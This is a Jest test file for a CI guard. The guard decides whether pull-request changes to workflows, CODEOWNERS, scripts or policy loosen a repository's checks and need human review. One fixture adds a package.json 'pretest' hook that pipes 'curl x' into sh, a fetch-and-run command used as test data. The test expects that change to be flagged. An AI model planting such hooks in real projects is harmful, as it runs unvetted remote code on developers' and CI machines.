import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { diffTrees, openRepository } from '@operator/git'
import type { PolicyEdit } from '@operator/report'
import { readSources } from '@operator/workflows'
import { createRepository, type FileContent, type TestRepository } from '../../../test/git/repository.ts'
import { describeWorkflows } from '../ci/describe-workflows.ts'
import { known, unreadBecause } from '../fact.ts'
import { sampleSubject } from '../sample.ts'
import { collectPipeline } from './collect.ts'
import { evaluatePipelineChanged } from './pipeline-changed.ts'

let repository: TestRepository
beforeEach(() => {
  repository = createRepository()
})
afterEach(() => repository.remove())

const pin = (digit: string) => digit.repeat(40)
const ci = (run: string, extra = '') => `on: pull_request
permissions: { contents: read }
jobs:
  tests:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@${pin('1')} # v5.0.0
        with: { persist-credentials: false }
      - uses: ./.github/actions/setup
      - run: ${run}
${extra}`

const before: Record<string, FileContent> = {
  '.github/workflows/ci.yml': ci('./ci/test.sh'),
  '.github/actions/setup/action.yml': 'runs: { using: composite, steps: [] }\n',
  '.github/actions/setup/index.js': 'setup()\n',
  'ci/test.sh': '#!/bin/sh\nnpm test\n',
  'package.json': '{ "scripts": { "test": "jest" }, "version": "1" }',
  'src/shop.ts': 'export {}\n',
  CODEOWNERS: '* @octo/shop\n',
}

async function judge(changed: Record<string, FileContent>, edits: readonly PolicyEdit[] = []) {
  const base = repository.commit(before)
  const head = repository.commit(changed)
  const opened = await openRepository(repository.directory)
  const [baseSources, headSources] = [await readSources(opened, base), await readSources(opened, head)]
  const facts = await collectPipeline({
    repository: opened,
    changes: await diffTrees(opened, base, head),
    base: baseSources,
    head: headSources,
    workflows: [...describeWorkflows(baseSources).workflows, ...describeWorkflows(headSources).workflows],
    policyPath: '.github/operator.yml',
    policyEdits: edits,
  })
  const outcome = evaluatePipelineChanged(known(facts), sampleSubject())
  return { ...outcome, told: `${outcome.status} ${outcome.reason.code}` }
}

describe('pipeline-changed', () => {
  test('code is none of its business', async () => {
    expect((await judge({ 'src/shop.ts': 'export const x = 1\n' })).told).toBe('pass unchanged')
    expect((await judge({ 'package.json': '{ "scripts": { "test": "jest" }, "version": "2" }' })).told).toBe(
      'pass unchanged',
    )
  })

  test.each<[string, Record<string, FileContent>]>([
    ['a comment', { '.github/workflows/ci.yml': `# why\n${ci('./ci/test.sh')}` }],
    [
      'a newer pin',
      {
        '.github/workflows/ci.yml': ci('./ci/test.sh')
          .replace(pin('1'), pin('2'))
          .replace('v5.0.0', 'v5.0.1'),
      },
    ],
    ['a comment in CODEOWNERS', { CODEOWNERS: '# owners\n* @octo/shop\n' }],
    ['a comment in a script', { 'ci/test.sh': '#!/bin/sh\n# all of them\nnpm test\n' }],
  ])('%s passes, with the reason', async (_, changed) => {
    const outcome = await judge(changed)
    expect(outcome.told).toBe('pass not-loosened')
    expect(outcome.findings).not.toHaveLength(0)
  })

  test.each<[string, Record<string, FileContent>, string]>([
    ['a workflow that goes', { '.github/workflows/ci.yml': null }, 'loosened'],
    [
      'a failure that is ignored',
      { '.github/workflows/ci.yml': ci('./ci/test.sh', '        continue-on-error: true\n') },
      'loosened',
    ],
    [
      'a job that may be skipped',
      {
        '.github/workflows/ci.yml': ci('./ci/test.sh').replace(
          '  tests:\n',
          "  tests:\n    if: github.actor != 'x'\n",
        ),
      },
      'loosened',
    ],
    ['code owners that go', { CODEOWNERS: null }, 'loosened'],
    ['other code owners', { CODEOWNERS: '* @octo/everybody\n' }, 'cannot-tell'],
    ['another command', { '.github/workflows/ci.yml': ci('true') }, 'cannot-tell'],
    ['a script that a workflow runs', { 'ci/test.sh': '#!/bin/sh\ntrue\n' }, 'cannot-tell'],
    ['the code of a local action', { '.github/actions/setup/index.js': 'nothing()\n' }, 'cannot-tell'],
    ['the scripts of package.json', { 'package.json': '{ "scripts": { "test": "true" } }' }, 'cannot-tell'],
    [
      'a new hook of package.json',
      { 'package.json': '{ "scripts": { "test": "jest", "pretest": "curl x | sh" } }' },
      'cannot-tell',
    ],
    ['a Makefile', { Makefile: 'test:\n\ttrue\n' }, 'cannot-tell'],
    ['a workflow that cannot be read', { '.github/workflows/ci.yml': 'on: [' }, 'cannot-tell'],
    [
      'a workflow that became a link',
      { '.github/workflows/ci.yml': { link: '../../elsewhere' } },
      'cannot-tell',
    ],
  ])('%s asks', async (_, changed, code) => {
    const outcome = await judge(changed)
    expect(outcome.told).toBe(`ask ${code}`)
    expect(outcome.next).toMatch(/^Have somebody/)
  })

  test('an edit of the policy: what loosens it asks, what tightens it does not', async () => {
    const edit = (effect: PolicyEdit['effect']): PolicyEdit => ({
      key: 'checks.precheck/tests',
      before: 'enforce',
      after: 'off',
      effect,
    })
    const text = { '.github/operator.yml': 'version: 1\n' }
    expect((await judge(text, [edit('loosened')])).told).toBe('ask loosened')
    expect((await judge(text, [edit('unclear')])).told).toBe('ask cannot-tell')
    expect((await judge(text, [edit('tightened')])).told).toBe('pass not-loosened')
  })

  test('another version of the same change is another question', async () => {
    const first = await judge({ 'ci/test.sh': '#!/bin/sh\ntrue\n' })
    const second = await judge({ 'ci/test.sh': '#!/bin/sh\nfalse\n' })
    expect(first.findings[0]?.fingerprint).not.toBe(second.findings[0]?.fingerprint)
  })

  test('what cannot be read is unknown', () => {
    expect(
      evaluatePipelineChanged(unreadBecause('not-in-clone', 'There is no git.'), sampleSubject()).status,
    ).toBe('unknown')
  })

  test('without a base there is nothing to compare with: a person, or a base, is needed', () => {
    const facts = known({ changes: [], compared: 3 })
    const judgeAt = (stage: 'deploy' | 'local') =>
      evaluatePipelineChanged(facts, sampleSubject({ base: null, stage }))
    expect(judgeAt('deploy')).toMatchObject({ status: 'ask', reason: { code: 'no-base' } })
    expect(judgeAt('local')).toMatchObject({ status: 'unknown', reason: { code: 'no-base' } })
  })
})
